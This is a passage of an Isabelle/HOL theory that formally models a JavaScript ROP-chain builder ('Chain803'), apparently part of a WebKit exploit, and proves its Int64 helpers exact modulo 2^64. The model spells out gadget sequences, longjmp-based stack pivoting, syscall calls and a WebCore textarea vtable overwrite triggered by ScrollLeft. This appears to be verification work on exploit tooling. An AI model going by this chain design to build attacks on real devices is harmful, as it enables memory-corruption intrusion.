  "push_restore is_force s =
     (if \<not> is_saved s \<and> \<not> is_force then Inl (Error ''save first before restoring'', s)
      else
        (case push_gadget ''pop rax; ret'' s of
           Inl e \<Rightarrow> Inl e
         | Inr s1 \<Rightarrow>
             (let rsp_slot = int (position s1) in
              run_ops
                [push_constant 0,
                 push_gadget ''pop rdi; ret'',
                 (\<lambda>s. push_value (jmp_buf_p s + 0x39) s),
                 push_gadget ''mov qword ptr [rdi], rax; ret'',
                 push_gadget ''pop rax; ret'',
                 with_gadget ''ret'' push_value,
                 push_gadget ''pop rdi; ret'',
                 (\<lambda>s. push_value (jmp_buf_p s + 0x80) s),
                 push_gadget ''mov qword ptr [rdi], rax; ret'',
                 with_gadget ''longjmp'' (\<lambda>a s. push_call a [jmp_buf_p s] s),
                 push_constant 0,
                 push_constant 0,
                 (\<lambda>s. Inr (s\<lparr>stack := write64 (stack s) rsp_slot
                                          (stack_addr s + word_of_int (int (position s)))\<rparr>)),
                 (\<lambda>s. Inr (s\<lparr>is_saved := True\<rparr>))] s1)))"

definition push_get_retval :: "chain \<Rightarrow> res" where
  "push_get_retval =
     run_ops [push_gadget ''pop rdi; ret'',
              (\<lambda>s. push_value (retval_addr s) s),
              push_gadget ''mov qword ptr [rdi], rax; ret'']"

subsection \<open>Chain803\<close>

definition run :: "chain \<Rightarrow> res" where
  "run =
     run_ops
       [check_stale,
        check_is_empty,
        check_is_branching,
        (\<lambda>s. Inr (s\<lparr>target_log := target_log s @ [TargetWrite64 (webcore_ta s) 0 (vtable_p s)]\<rparr>)),
        (\<lambda>s. Inr (s\<lparr>target_log := target_log s @ [ScrollLeft]\<rparr>)),
        (\<lambda>s. Inr (s\<lparr>target_log := target_log s @ [TargetWrite64 (webcore_ta s) 0 (old_vtable_p s)]\<rparr>))]"

text \<open>\<open>call\<close> and \<open>syscall\<close> of \<open>Chain803Base\<close>, with the \<open>run\<close> of \<open>Chain803\<close>.\<close>

definition call :: "addr \<Rightarrow> addr list \<Rightarrow> chain \<Rightarrow> res" where
  "call func_addr args s =
     (if position s \<noteq> 0 then Inl (Error ''call() needs an empty chain'', s)
      else run_ops
        [push_call func_addr args, push_get_retval, push_end, run, (\<lambda>s. Inr (clean s))] s)"

definition syscall :: "string \<Rightarrow> addr list \<Rightarrow> chain \<Rightarrow> res" where
  "syscall syscall_name args s =
     (if position s \<noteq> 0 then Inl (Error ''syscall() needs an empty chain'', s)
      else run_ops
        [push_syscall syscall_name args, push_get_retval, push_end, run,
         (\<lambda>s. Inr (clean s))] s)"

subsection \<open>Construction\<close>

text \<open>
  What the constructors take from outside: the catalog and the syscall tables of
  \<open>init_class\<close>, the capacity of the stack buffer, and the target addresses of the
  buffers they allocate and of the textarea they create.
\<close>

record env =
  env_gadgets :: "string \<rightharpoonup> addr"
  env_syscall_map :: "string \<rightharpoonup> nat"
  env_syscall_array :: "nat \<rightharpoonup> addr"
  env_stack_size :: nat
  env_stack_addr :: addr
  env_retval_addr :: addr
  env_flag_addr :: addr
  env_jmp_target_p :: addr
  env_jmp_buf_p :: addr
  env_webcore_ta :: addr
  env_vtable_p :: addr
  env_old_vtable_p :: addr

text \<open>
  \<open>new Chain803()\<close>. The constructors of \<open>Chain803Base\<close> and \<open>Chain803\<close> resolve the
  gadgets of the two jump tables with \<open>get_gadget\<close>, which throws on an unknown key;
  the tables themselves are read by the target only. The fields are set in the order of
  the source: \<open>super()\<close>, \<open>_clean_branch_ctx()\<close>, then \<open>is_saved = true\<close>.
\<close>

definition ChainBase_new :: "env \<Rightarrow> chain" where
  "ChainBase_new e =
     \<lparr>position = 0, is_stale = False, stack = replicate (env_stack_size e) 0,
      stack_addr = env_stack_addr e, retval_addr = env_retval_addr e,
      gadgets = env_gadgets e, syscall_map = env_syscall_map e,
      syscall_array = env_syscall_array e,
      is_branch_ctx = False, branch_position = FNull, delta_slot = FNull,
      rsp_slot = FNull, rsp_position = FNull,
      flag_addr = env_flag_addr e, jmp_target_p = env_jmp_target_p e,
      is_saved = False, jmp_buf_p = env_jmp_buf_p e,
      webcore_ta = env_webcore_ta e, vtable_p = env_vtable_p e,
      old_vtable_p = env_old_vtable_p e, target_log = []\<rparr>"

definition Chain803_new :: "env \<Rightarrow> error + chain" where
  "Chain803_new e =
     (case filter (\<lambda>k. env_gadgets e k = None)
             [jop4, jop5, ta_jop1, ta_jop2, ta_jop3, jop2, jop3, jop4, jop5] of
        k # ks \<Rightarrow> Inl (Error (''gadget not found: '' @ k))
      | [] \<Rightarrow> Inr ((clean_branch_ctx (ChainBase_new e))\<lparr>is_saved := True\<rparr>))"

subsection \<open>The push operations as data\<close>

text \<open>
  A conditional body is a sequence of calls of the push operations of the builder.
\<close>

datatype push_op =
    PushGadget string
  | PushConstant int
  | PushValue addr
  | PushCall addr "addr list"
  | PushSyscall string "addr list"
  | PushWrite64 addr addr
  | PushGetRetval
  | PushEnd
  | PushSave
  | PushRestore bool

fun do_push :: "push_op \<Rightarrow> chain \<Rightarrow> res" where
  "do_push (PushGadget k) = push_gadget k"
| "do_push (PushConstant n) = push_constant n"
| "do_push (PushValue v) = push_value v"
| "do_push (PushCall f args) = push_call f args"
| "do_push (PushSyscall name args) = push_syscall name args"
| "do_push (PushWrite64 a v) = push_write64 a v"
| "do_push PushGetRetval = push_get_retval"
| "do_push PushEnd = push_end"
| "do_push PushSave = push_save"
| "do_push (PushRestore is_force) = push_restore is_force"

definition push_all :: "push_op list \<Rightarrow> chain \<Rightarrow> res" where
  "push_all ops = run_ops (map do_push ops)"

subsection \<open>Notions used in the statements and proofs\<close>

text \<open>The chain after a push of \<open>v\<close> that found room.\<close>

definition pushed :: "addr \<Rightarrow> chain \<Rightarrow> chain" where
  "pushed v s =
     (let s' = s\<lparr>stack := write64 (stack s) (int (position s)) v, position := position s + 8\<rparr>
      in if is_branch_ctx s'
         then s'\<lparr>branch_position := FNum (to_number (branch_position s') + 8)\<rparr>
         else s')"

text \<open>
  What every push operation keeps: the buffer size, the branch context but for its byte
  count, the catalog and the addresses; inside a branch the byte count grows with
  \<open>position\<close>.
\<close>

definition extends :: "chain \<Rightarrow> chain \<Rightarrow> bool" where
  "extends s s' \<longleftrightarrow>
     length (stack s') = length (stack s) \<and> position s \<le> position s' \<and>
     is_branch_ctx s' = is_branch_ctx s \<and> delta_slot s' = delta_slot s \<and>
     rsp_slot s' = rsp_slot s \<and> rsp_position s' = rsp_position s \<and>
     gadgets s' = gadgets s \<and> syscall_map s' = syscall_map s \<and>
     syscall_array s' = syscall_array s \<and> stack_addr s' = stack_addr s \<and>
     retval_addr s' = retval_addr s \<and> flag_addr s' = flag_addr s \<and>
     jmp_target_p s' = jmp_target_p s \<and> jmp_buf_p s' = jmp_buf_p s \<and>
     is_stale s' = is_stale s \<and> target_log s' = target_log s \<and>
     (if is_branch_ctx s
      then to_number (branch_position s') - to_number (branch_position s)
             = int (position s') - int (position s)
      else branch_position s' = branch_position s)"

text \<open>
  A session as \<open>init\<close> sets it up, with module bases and buffer addresses chosen for the
  examples, and the chain that \<open>new Chain803()\<close> returns in it.
\<close>

definition example_env :: env where
  "example_env =
     \<lparr>env_gadgets = init_gadgets 0x800000000 0x810000000,
      env_syscall_map = [''getuid'' \<mapsto> 24],
      env_syscall_array = [24 \<mapsto> 0x820001000],
      env_stack_size = 0x1000,
      env_stack_addr = 0x200000000,
      env_retval_addr = 0x200002000,
      env_flag_addr = 0x200003000,
      env_jmp_target_p = 0x200004000,
      env_jmp_buf_p = 0x200005000,
      env_webcore_ta = 0x200006000,
      env_vtable_p = 0x200007000,
      env_old_vtable_p = 0x900000000\<rparr>"

definition new_chain :: chain where
  "new_chain = (clean_branch_ctx (ChainBase_new example_env))\<lparr>is_saved := True\<rparr>"

text \<open>
  The calls a user of a chain can make, the chain a call leaves behind whether it returned
  or threw, and the chains the code can build: what \<open>new Chain803()\<close> returns, and what
  any call leaves of such a chain.
\<close>

datatype api_call =
    Push push_op
  | StartBranch
  | EndBranch
  | Run
  | Call addr "addr list"
  | Syscall string "addr list"
  | Clean

fun do_call :: "api_call \<Rightarrow> chain \<Rightarrow> res" where
  "do_call (Push op) = do_push op"
| "do_call StartBranch = start_branch"
| "do_call EndBranch = end_branch"
| "do_call Run = run"
| "do_call (Call f args) = call f args"
| "do_call (Syscall name args) = syscall name args"
| "do_call Clean = (\<lambda>s. Inr (clean s))"

fun res_chain :: "res \<Rightarrow> chain" where
  "res_chain (Inl (e, s)) = s"
| "res_chain (Inr s) = s"

inductive built :: "chain \<Rightarrow> bool" where
  built_new: "Chain803_new e = Inr c \<Longrightarrow> built c"
| built_call: "built s \<Longrightarrow> built (res_chain (do_call a s))"

text \<open>A method that never clears \<open>is_branch_ctx\<close>, returning or throwing.\<close>

definition keeps_flag :: "(chain \<Rightarrow> res) \<Rightarrow> bool" where
  "keeps_flag f \<longleftrightarrow> (\<forall>s. is_branch_ctx s \<longrightarrow> is_branch_ctx (res_chain (f s)))"

section \<open>Int64 arithmetic\<close>

lemma Int64_new_JArray:
  "length xs = 8 \<Longrightarrow> Int64_new [JArray xs] = Inr (map to_uint8 xs)"
  by (simp add: Int64_new_def uint8array_set_def)

lemma Int64_One_eq: "Int64_One = Inr [1, 0, 0, 0, 0, 0, 0, 0]"
  by code_simp

lemma Int64_Zero_eq: "Int64_Zero = Inr [0, 0, 0, 0, 0, 0, 0, 0]"
  by code_simp

lemma le_val_append: "le_val (xs @ ys) = le_val xs + 256 ^ length xs * le_val ys"
  by (induction xs) (simp_all add: algebra_simps)

lemma int64_val_take_Suc:
  "i < length bs \<Longrightarrow> int64_val (take (Suc i) bs) = int64_val (take i bs) + 256 ^ i * uint (bs ! i)"
  by (simp add: int64_val_def take_Suc_conv_app_nth le_val_append)

lemma le_val_bytes_bounds:
  "0 \<le> le_val (map (\<lambda>x. x mod 256) xs) \<and> le_val (map (\<lambda>x. x mod 256) xs) < 256 ^ length xs"
proof (induction xs)
  case Nil
  show ?case by simp
next
  case (Cons x xs)
  define L where "L = le_val (map (\<lambda>x. x mod 256) xs)"
  define P :: int where "P = 256 ^ length xs"
  have "0 \<le> x mod 256" "x mod 256 < 256" by simp_all
  moreover have "0 \<le> L" "L < P" using Cons by (simp_all add: L_def P_def)
  ultimately have "0 \<le> x mod 256 + 256 * L \<and> x mod 256 + 256 * L < 256 * P" by arith
  then show ?case by (simp add: L_def P_def)
qed

lemma byte_bounds: "0 \<le> byteAt bs i \<and> byteAt bs i \<le> 255"
proof -
  have "uint (bs ! i) < 2 ^ LENGTH(8)" by (rule uint_lt2p)
  then show ?thesis by (simp add: byteAt_def)
qed

lemma add_loop_inv:
  "length this = 8 \<Longrightarrow> length a = 8 \<Longrightarrow> i \<le> 8 \<Longrightarrow> length ret = i \<Longrightarrow> c = 0 \<or> c = 1 \<Longrightarrow>
     le_val (map (\<lambda>x. x mod 256) ret) + c * 256 ^ i
       = int64_val (take i this) + int64_val (take i a) \<Longrightarrow>
     length (add_loop i this a c ret) = 8 \<and>
     (\<exists>c'. (c' = 0 \<or> c' = 1) \<and>
        le_val (map (\<lambda>x. x mod 256) (add_loop i this a c ret)) + c' * 256 ^ 8
          = int64_val this + int64_val a)"
proof (induction i this a c ret rule: add_loop.induct)
  case (1 i this a carry ret)
  show ?case
  proof (cases "i < 8")
    case False
    with "1.prems" have i8: "i = 8" by simp
    have stop: "add_loop i this a carry ret = ret"
      using False by (subst add_loop.simps) simp
    from "1.prems" i8 show ?thesis
      unfolding stop by (intro conjI exI [of _ carry]) simp_all
  next
    case True
    define cur where "cur = byteAt this i + byteAt a i + carry"
    define c' where "c' = (if cur > 0xff then 1 else 0 :: int)"
    have b1: "0 \<le> byteAt this i \<and> byteAt this i \<le> 255" by (rule byte_bounds)
    have b2: "0 \<le> byteAt a i \<and> byteAt a i \<le> 255" by (rule byte_bounds)
    have cur_bounds: "0 \<le> cur \<and> cur \<le> 511"
      using b1 b2 "1.prems"(5) by (auto simp: cur_def)
    have split: "cur mod 256 + 256 * c' = cur"
    proof (cases "cur > 0xff")
      case True
      then have "(cur - 256) mod 256 = cur - 256" using cur_bounds
        by (intro mod_pos_pos_trivial) simp_all
      then have "cur mod 256 = cur - 256" by simp
      with True show ?thesis by (simp add: c'_def)
    next
      case False
      then have "cur mod 256 = cur" using cur_bounds by simp
      with False show ?thesis by (simp add: c'_def)
    qed
    have step: "add_loop i this a carry ret = add_loop (i + 1) this a c' (ret @ [cur])"
      using True by (subst add_loop.simps) (simp add: cur_def c'_def Let_def)
    have inv': "le_val (map (\<lambda>x. x mod 256) (ret @ [cur])) + c' * 256 ^ (i + 1)
        = int64_val (take (i + 1) this) + int64_val (take (i + 1) a)"
    proof -
      have "le_val (map (\<lambda>x. x mod 256) (ret @ [cur])) + c' * 256 ^ (i + 1)
          = le_val (map (\<lambda>x. x mod 256) ret) + 256 ^ i * (cur mod 256 + 256 * c')"
        using "1.prems"(4) by (simp add: le_val_append algebra_simps)
      also have "\<dots> = le_val (map (\<lambda>x. x mod 256) ret) + 256 ^ i * cur"
        by (simp only: split)
      also have "\<dots> = int64_val (take i this) + int64_val (take i a)
            + 256 ^ i * (byteAt this i + byteAt a i)"
        using "1.prems"(6) by (simp add: cur_def algebra_simps)
      also have "\<dots> = int64_val (take (i + 1) this) + int64_val (take (i + 1) a)"
        using True "1.prems"(1,2) by (simp add: int64_val_take_Suc byteAt_def algebra_simps)
      finally show ?thesis .
    qed
    have "length (add_loop (i + 1) this a (if 255 < cur then 1 else 0) (ret @ [cur])) = 8 \<and>
     (\<exists>c''. (c'' = 0 \<or> c'' = 1) \<and>
        le_val (map (\<lambda>x. x mod 256) (add_loop (i + 1) this a (if 255 < cur then 1 else 0) (ret @ [cur]))) + c'' * 256 ^ 8
          = int64_val this + int64_val a)"
    proof (rule "1.IH" [OF True, of cur])
      show "cur = byteAt this i + byteAt a i + carry" by (simp add: cur_def)
      show "length this = 8" "length a = 8" using "1.prems" by simp_all
      show "i + 1 \<le> 8" using True by simp
      show "length (ret @ [cur]) = i + 1" using "1.prems" by simp
      show "(if 255 < cur then 1 else 0) = 0 \<or> (if 255 < cur then 1 else (0::int)) = 1" by simp
      show "le_val (map (\<lambda>x. x mod 256) (ret @ [cur])) + (if 255 < cur then 1 else 0) * 256 ^ (i + 1) =
    int64_val (take (i + 1) this) + int64_val (take (i + 1) a)" using inv' by (simp add: c'_def)
    qed
    then show ?thesis unfolding step c'_def by simp
  qed
qed

lemma sub_loop_inv:
  "length this = 8 \<Longrightarrow> length a = 8 \<Longrightarrow> i \<le> 8 \<Longrightarrow> length ret = i \<Longrightarrow> c = 0 \<or> c = 1 \<Longrightarrow>
     le_val (map (\<lambda>x. x mod 256) ret) - c * 256 ^ i
       = int64_val (take i this) - int64_val (take i a) \<Longrightarrow>
     length (sub_loop i this a c ret) = 8 \<and>
     (\<exists>c'. (c' = 0 \<or> c' = 1) \<and>
        le_val (map (\<lambda>x. x mod 256) (sub_loop i this a c ret)) - c' * 256 ^ 8
          = int64_val this - int64_val a)"
proof (induction i this a c ret rule: sub_loop.induct)
  case (1 i this a carry ret)
  show ?case
  proof (cases "i < 8")
    case False
    with "1.prems" have i8: "i = 8" by simp
    have stop: "sub_loop i this a carry ret = ret"
      using False by (subst sub_loop.simps) simp
    from "1.prems" i8 show ?thesis
      unfolding stop by (intro conjI exI [of _ carry]) simp_all
  next
    case True
    define cur where "cur = byteAt this i - byteAt a i - carry"
    define c' where "c' = (if cur < 0 then 1 else 0 :: int)"
    have b1: "0 \<le> byteAt this i \<and> byteAt this i \<le> 255" by (rule byte_bounds)
    have b2: "0 \<le> byteAt a i \<and> byteAt a i \<le> 255" by (rule byte_bounds)
    have cur_bounds: "- 256 \<le> cur \<and> cur \<le> 255"
      using b1 b2 "1.prems"(5) by (auto simp: cur_def)
    have split: "cur mod 256 - 256 * c' = cur"
    proof (cases "cur < 0")
      case True
      then have "(cur + 256) mod 256 = cur + 256" using cur_bounds
        by (intro mod_pos_pos_trivial) simp_all
      then have "cur mod 256 = cur + 256" by simp
      with True show ?thesis by (simp add: c'_def)
    next
      case False
      then have "cur mod 256 = cur" using cur_bounds by simp
      with False show ?thesis by (simp add: c'_def)
    qed
    have step: "sub_loop i this a carry ret = sub_loop (i + 1) this a c' (ret @ [cur])"
      using True by (subst sub_loop.simps) (simp add: cur_def c'_def Let_def)
    have inv': "le_val (map (\<lambda>x. x mod 256) (ret @ [cur])) - c' * 256 ^ (i + 1)
        = int64_val (take (i + 1) this) - int64_val (take (i + 1) a)"
    proof -
      have "le_val (map (\<lambda>x. x mod 256) (ret @ [cur])) - c' * 256 ^ (i + 1)
          = le_val (map (\<lambda>x. x mod 256) ret) + 256 ^ i * (cur mod 256 - 256 * c')"
        using "1.prems"(4) by (simp add: le_val_append algebra_simps)
      also have "\<dots> = le_val (map (\<lambda>x. x mod 256) ret) + 256 ^ i * cur"
        by (simp only: split)
      also have "\<dots> = int64_val (take i this) - int64_val (take i a)
            + 256 ^ i * (byteAt this i - byteAt a i)"
        using "1.prems"(6) by (simp add: cur_def algebra_simps)
      also have "\<dots> = int64_val (take (i + 1) this) - int64_val (take (i + 1) a)"
        using True "1.prems"(1,2) by (simp add: int64_val_take_Suc byteAt_def algebra_simps)
      finally show ?thesis .
    qed
    have "length (sub_loop (i + 1) this a (if cur < 0 then 1 else 0) (ret @ [cur])) = 8 \<and>
     (\<exists>c''. (c'' = 0 \<or> c'' = 1) \<and>
        le_val (map (\<lambda>x. x mod 256)
           (sub_loop (i + 1) this a (if cur < 0 then 1 else 0) (ret @ [cur]))) - c'' * 256 ^ 8
          = int64_val this - int64_val a)"
    proof (rule "1.IH" [OF True, of cur])
      show "cur = byteAt this i - byteAt a i - carry" by (simp add: cur_def)
      show "length this = 8" "length a = 8" using "1.prems" by simp_all
      show "i + 1 \<le> 8" using True by simp
      show "length (ret @ [cur]) = i + 1" using "1.prems" by simp
      show "(if cur < 0 then 1 else 0) = 0 \<or> (if cur < 0 then 1 else (0::int)) = 1" by simp
      show "le_val (map (\<lambda>x. x mod 256) (ret @ [cur])) - (if cur < 0 then 1 else 0) * 256 ^ (i + 1) =
    int64_val (take (i + 1) this) - int64_val (take (i + 1) a)" using inv' by (simp add: c'_def)
    qed
    then show ?thesis unfolding step c'_def by simp
  qed
qed

lemma neg_loop_inv:
  "length this = 8 \<Longrightarrow> i \<le> 8 \<Longrightarrow> length ret = i \<Longrightarrow>
     le_val (map (\<lambda>x. x mod 256) ret) = 256 ^ i - 1 - int64_val (take i this) \<Longrightarrow>
     length (neg_loop i this ret) = 8 \<and>
     le_val (map (\<lambda>x. x mod 256) (neg_loop i this ret)) = 256 ^ 8 - 1 - int64_val this"
proof (induction i this ret rule: neg_loop.induct)
  case (1 i this ret)
  show ?case
  proof (cases "i < 8")
    case False
    with "1.prems" have i8: "i = 8" by simp
    have stop: "neg_loop i this ret = ret"
      using False by (subst neg_loop.simps) simp
    from "1.prems" i8 show ?thesis unfolding stop by simp
  next
    case True
    define x where "x = byteAt this i"
    have bx: "0 \<le> x \<and> x \<le> 255" unfolding x_def by (rule byte_bounds)
    have "(255 - x) mod 256 = 255 - x" using bx by (intro mod_pos_pos_trivial) simp_all
    moreover have "(NOT x) mod 256 = (NOT x + 256) mod 256" by simp
    ultimately have notx: "(NOT x) mod 256 = 255 - x" by (simp add: not_int_def)
    have step: "neg_loop i this ret = neg_loop (i + 1) this (ret @ [NOT x])"
      using True by (subst neg_loop.simps) (simp add: x_def)
    have inv': "le_val (map (\<lambda>x. x mod 256) (ret @ [NOT x]))
        = 256 ^ (i + 1) - 1 - int64_val (take (i + 1) this)"
      using "1.prems" True
      by (simp add: le_val_append notx int64_val_take_Suc byteAt_def [symmetric] x_def [symmetric]
            algebra_simps)
    have "length (neg_loop (i + 1) this (ret @ [NOT (byteAt this i)])) = 8 \<and>
     le_val (map (\<lambda>x. x mod 256) (neg_loop (i + 1) this (ret @ [NOT (byteAt this i)])))
       = 256 ^ 8 - 1 - int64_val this"
    proof (rule "1.IH" [OF True])
      show "length this = 8" using "1.prems" by simp
      show "i + 1 \<le> 8" using True by simp
      show "length (ret @ [NOT (byteAt this i)]) = i + 1" using "1.prems" by simp
      show "le_val (map (\<lambda>x. x mod 256) (ret @ [NOT (byteAt this i)])) =
        256 ^ (i + 1) - 1 - int64_val (take (i + 1) this)" using inv' by (simp add: x_def)
    qed
    then show ?thesis unfolding step x_def by simp
  qed
qed

lemma int64_val_of_ints:
  "int64_val (map (to_uint8 \<circ> Finite) xs) = le_val (map (\<lambda>x. x mod 256) xs)"
  by (induction xs) (simp_all add: int64_val_def uint_word_of_int_eq take_bit_eq_mod)

lemma int64_val_bounds: "0 \<le> int64_val bs \<and> int64_val bs < 256 ^ length bs"
proof (induction bs)
  case Nil
  show ?case by (simp add: int64_val_def)
next
  case (Cons b bs)
  define P :: int where "P = 256 ^ length bs"
  have "uint b < 2 ^ LENGTH(8)" by (rule uint_lt2p)
  then have "0 \<le> uint b" "uint b < 256" by simp_all
  moreover have "0 \<le> int64_val bs" "int64_val bs < P" using Cons by (simp_all add: P_def)
  ultimately have "0 \<le> uint b + 256 * int64_val bs \<and> uint b + 256 * int64_val bs < 256 * P"
    by arith
  then show ?case by (simp add: int64_val_def P_def)
qed

lemma int64_val_inj:
  "length xs = length ys \<Longrightarrow> int64_val xs = int64_val ys \<Longrightarrow> xs = ys"
proof (induction xs ys rule: list_induct2)
  case Nil
  show ?case by simp
next
  case (Cons x xs y ys)
  have bx: "0 \<le> uint x \<and> uint x < 256" and bnd_y: "0 \<le> uint y \<and> uint y < 256"
    using uint_lt2p [of x] uint_lt2p [of y] by simp_all
  have eq: "uint x + 256 * int64_val xs = uint y + 256 * int64_val ys"
    using Cons.prems by (simp add: int64_val_def)
  then have "(uint x + 256 * int64_val xs) mod 256 = (uint y + 256 * int64_val ys) mod 256"
    by (rule arg_cong)
  then have "uint x mod 256 = uint y mod 256" by simp
  moreover have "uint x mod 256 = uint x" using bx by (intro mod_pos_pos_trivial) simp_all
  moreover have "uint y mod 256 = uint y" using bnd_y by (intro mod_pos_pos_trivial) simp_all
  ultimately have xy: "uint x = uint y" by simp
  with eq have "int64_val xs = int64_val ys" by simp
  moreover from xy have "x = y" by (simp add: word_uint_eq_iff)
  ultimately show ?case using Cons.IH by simp
qed

lemma Int64_add_val:
  assumes "is_int64 a" "is_int64 b"
  shows "\<exists>r. Int64_add a [JInt64 b] = Inr r \<and> is_int64 r \<and>
             int64_val r = (int64_val a + int64_val b) mod 2 ^ 64"
proof -
  define L where "L = add_loop 0 a b 0 []"
  from assms have len: "length a = 8" "length b = 8" by (simp_all add: is_int64_def)
  have "length L = 8 \<and>
     (\<exists>c'. (c' = 0 \<or> c' = 1) \<and>
        le_val (map (\<lambda>x. x mod 256) L) + c' * 256 ^ 8 = int64_val a + int64_val b)"
    unfolding L_def by (rule add_loop_inv) (simp_all add: len int64_val_def)
  then obtain c' where lenL: "length L = 8"
    and sum: "le_val (map (\<lambda>x. x mod 256) L) + c' * 256 ^ 8 = int64_val a + int64_val b"
    by blast
  define r where "r = map (to_uint8 \<circ> Finite) L"
  have res: "Int64_add a [JInt64 b] = Inr r"
    by (simp add: Int64_add_def operation_def Int64_new_JArray lenL L_def [symmetric] r_def)
  have val: "int64_val r = le_val (map (\<lambda>x. x mod 256) L)"
    by (simp add: r_def int64_val_of_ints)
  have bnd: "0 \<le> int64_val r \<and> int64_val r < 2 ^ 64"
    using int64_val_bounds [of r] lenL by (simp add: r_def)
  have "(int64_val a + int64_val b) mod 2 ^ 64 = (int64_val r + c' * 2 ^ 64) mod 2 ^ 64"
    using sum val by simp
  also have "\<dots> = int64_val r mod 2 ^ 64" by simp
  also have "\<dots> = int64_val r" using bnd by simp
  finally have "int64_val r = (int64_val a + int64_val b) mod 2 ^ 64" by simp
  with res lenL show ?thesis by (auto simp: is_int64_def r_def)
qed

lemma Int64_sub_val:
  assumes "is_int64 a" "is_int64 b"
  shows "\<exists>r. Int64_sub a [JInt64 b] = Inr r \<and> is_int64 r \<and>
             int64_val r = (int64_val a - int64_val b) mod 2 ^ 64"
proof -
  define L where "L = sub_loop 0 a b 0 []"
  from assms have len: "length a = 8" "length b = 8" by (simp_all add: is_int64_def)
  have "length L = 8 \<and>
     (\<exists>c'. (c' = 0 \<or> c' = 1) \<and>
        le_val (map (\<lambda>x. x mod 256) L) - c' * 256 ^ 8 = int64_val a - int64_val b)"
    unfolding L_def by (rule sub_loop_inv) (simp_all add: len int64_val_def)
  then obtain c' where lenL: "length L = 8"
    and sum: "le_val (map (\<lambda>x. x mod 256) L) - c' * 256 ^ 8 = int64_val a - int64_val b"
    by blast
  define r where "r = map (to_uint8 \<circ> Finite) L"
  have res: "Int64_sub a [JInt64 b] = Inr r"
    by (simp add: Int64_sub_def operation_def Int64_new_JArray lenL L_def [symmetric] r_def)
  have val: "int64_val r = le_val (map (\<lambda>x. x mod 256) L)"
    by (simp add: r_def int64_val_of_ints)
  have bnd: "0 \<le> int64_val r \<and> int64_val r < 2 ^ 64"
    using int64_val_bounds [of r] lenL by (simp add: r_def)
  have "(int64_val a - int64_val b) mod 2 ^ 64 = (int64_val r + (- c') * 2 ^ 64) mod 2 ^ 64"
    using sum val by simp
  also have "\<dots> = int64_val r mod 2 ^ 64" by (simp only: mod_mult_self1)
  also have "\<dots> = int64_val r" using bnd by simp
  finally have "int64_val r = (int64_val a - int64_val b) mod 2 ^ 64" by simp
  with res lenL show ?thesis by (auto simp: is_int64_def r_def)
qed

lemma Int64_neg_val:
  assumes "is_int64 a"
  shows "\<exists>r. Int64_neg a [] = Inr r \<and> is_int64 r \<and> int64_val r = (- int64_val a) mod 2 ^ 64"
proof -
  define L where "L = neg_loop 0 a []"
  from assms have len: "length a = 8" by (simp add: is_int64_def)
  have "length L = 8 \<and> le_val (map (\<lambda>x. x mod 256) L) = 256 ^ 8 - 1 - int64_val a"
    unfolding L_def by (rule neg_loop_inv) (simp_all add: len int64_val_def)
  then have lenL: "length L = 8"
    and sum: "le_val (map (\<lambda>x. x mod 256) L) = 256 ^ 8 - 1 - int64_val a"
    by blast+
  define n where "n = map (to_uint8 \<circ> Finite) L"
  have n_int64: "is_int64 n" by (simp add: n_def is_int64_def lenL)
  have n_val: "int64_val n = 2 ^ 64 - 1 - int64_val a"
    using sum by (simp add: n_def int64_val_of_ints)
  have one_int64: "is_int64 [1, 0, 0, 0, 0, 0, 0, 0]" by (simp add: is_int64_def)
  have one_val: "int64_val [1, 0, 0, 0, 0, 0, 0, 0] = 1" by (simp add: int64_val_def)
  obtain r where r: "Int64_add n [JInt64 [1, 0, 0, 0, 0, 0, 0, 0]] = Inr r" "is_int64 r"
      "int64_val r = (int64_val n + int64_val [1, 0, 0, 0, 0, 0, 0, 0]) mod 2 ^ 64"
    using Int64_add_val [OF n_int64 one_int64] by blast
  have res: "Int64_neg a [] = Inr r"
    by (simp add: Int64_neg_def operation_def Int64_new_JArray lenL L_def [symmetric]
          n_def [symmetric] Int64_One_eq r)
  have "int64_val r = (2 ^ 64 + - int64_val a) mod 2 ^ 64"
    using r(3) n_val one_val by simp
  also have "\<dots> = (- int64_val a) mod 2 ^ 64"
    by (metis add.commute mod_add_self2)
  finally show ?thesis using res r(2) by blast
qed

lemma equals_loop_eq: "bs = other \<Longrightarrow> equals_loop i bs other"
proof (induction i bs other rule: equals_loop.induct)
  case (1 i bs other)
  show ?case
  proof (cases "i < 8")
    case True
    with 1 show ?thesis by (subst equals_loop.simps) (simp add: byteAt_def)
  next
    case False
    then show ?thesis by (subst equals_loop.simps) simp
  qed
qed

lemma equals_loop_same: "equals_loop i bs bs"
  by (rule equals_loop_eq) simp

text \<open>
  C9. Int64 arithmetic is exact two's-complement arithmetic modulo \<open>2 ^ 64\<close>: for all
  Int64 values \<open>a\<close> and \<open>b\<close> (eight bytes each), \<open>a.add(b)\<close> returns the Int64 whose
  value is the sum modulo \<open>2 ^ 64\<close>, computed bytewise with carry; \<open>a.add(b).sub(b).equals(a)\<close>
  and \<open>a.add(a.neg()).equals(Int64.Zero)\<close> return true.
\<close>

theorem Int64_arith_mod_2_64:
  assumes "is_int64 a" and "is_int64 b"
  shows "\<exists>s d n z zero.
           Int64_add a [JInt64 b] = Inr s \<and> is_int64 s \<and>
           int64_val s = (int64_val a + int64_val b) mod 2 ^ 64 \<and>
           Int64_sub s [JInt64 b] = Inr d \<and> Int64_equals d (JInt64 a) = Inr True \<and>
           Int64_neg a [] = Inr n \<and> Int64_add a [JInt64 n] = Inr z \<and>
           Int64_Zero = Inr zero \<and> Int64_equals z (JInt64 zero) = Inr True"
proof -
  have bnd_a: "0 \<le> int64_val a \<and> int64_val a < 2 ^ 64"
    using int64_val_bounds [of a] assms(1) by (simp add: is_int64_def)
  obtain s where s: "Int64_add a [JInt64 b] = Inr s" "is_int64 s"
      "int64_val s = (int64_val a + int64_val b) mod 2 ^ 64"
    using Int64_add_val [OF assms] by blast
  obtain d where d: "Int64_sub s [JInt64 b] = Inr d" "is_int64 d"
      "int64_val d = (int64_val s - int64_val b) mod 2 ^ 64"
    using Int64_sub_val [OF s(2) assms(2)] by blast
  have "int64_val d = (int64_val a + int64_val b - int64_val b) mod 2 ^ 64"
    unfolding d(3) s(3) by (simp add: mod_diff_left_eq)
  then have "int64_val d = int64_val a" using bnd_a by simp
  then have da: "d = a" using d(2) assms(1) by (intro int64_val_inj) (simp_all add: is_int64_def)
  obtain n where n: "Int64_neg a [] = Inr n" "is_int64 n"
      "int64_val n = (- int64_val a) mod 2 ^ 64"
    using Int64_neg_val [OF assms(1)] by blast
  obtain z where z: "Int64_add a [JInt64 n] = Inr z" "is_int64 z"
